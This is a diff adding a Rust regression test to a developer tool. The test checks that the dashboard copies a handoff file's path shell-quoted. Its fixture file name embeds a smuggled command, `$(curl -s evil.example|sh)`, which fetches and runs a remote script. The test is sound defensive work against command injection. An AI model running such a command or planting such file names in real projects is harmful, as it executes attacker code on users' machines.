@@ -372,3 +372,43 @@ fn row6_init_never_rewrites_a_settings_file_it_cannot_keep() {
     ok_stdout(p.forge().args(["init", "--uninstall"]));
     assert_eq!(std::fs::read_to_string(&path).unwrap(), once);
 }
+
+/// Row 7: a repository ships a handoff named `agent-T-1$(curl -s evil.example|sh)-….md`;
+/// the dashboard's `y` put its path on the clipboard (OSC 52) raw, and a paste into
+/// a shell ran the command. Now the path is copied quoted for a shell. Driven in a
+/// real terminal (tmux, which keeps what OSC 52 copies in its paste buffer).
+#[test]
+fn row7_y_copies_a_shipped_handoffs_path_quoted_for_a_shell() {
+    use common::tmux::Tmux;
+    if !Tmux::here() {
+        return;
+    }
+    let p = TestProject::new();
+    let name = "agent-T-1$(curl -s evil.example|sh)-20261121-101502.md";
+    let fixture =
+        std::fs::read_to_string(common::fixtures().join("handoffs/agent-T-012-20261121-101502.md"))
+            .unwrap();
+    p.write(&format!(".forge/handoffs/{name}"), &fixture);
+    let bin = std::env::var_os("FORGE_TEST_BIN")
+        .map_or_else(|| env!("CARGO_BIN_EXE_forge").into(), std::path::PathBuf::from);
+    let command = format!(
+        "cd {} && env -u CLAUDE_PROJECT_DIR HOME={} XDG_CONFIG_HOME={} XDG_STATE_HOME= NO_COLOR=1 {} tui",
+        sh_quote(&p.root),
+        sh_quote(&p.home),
+        sh_quote(&p.xdg),
+        sh_quote(&bin)
+    );
+    let tmux = Tmux::start(120, 30, &command);
+    tmux.run(&["set-option", "-g", "set-clipboard", "on"]);
+    tmux.wait_for("T-1");
+    tmux.keys(&["y"]);
+    tmux.wait_for("copied");
+    let copied = tmux.run(&["show-buffer"]);
+    let path = p.root.join(".forge/handoffs").join(name);
+    assert_eq!(
+        copied.trim_end_matches('\n'),
+        format!("'{}'", path.display()),
+        "the clipboard got the path unquoted"
+    );
+    tmux.keys(&["q"]);
+}
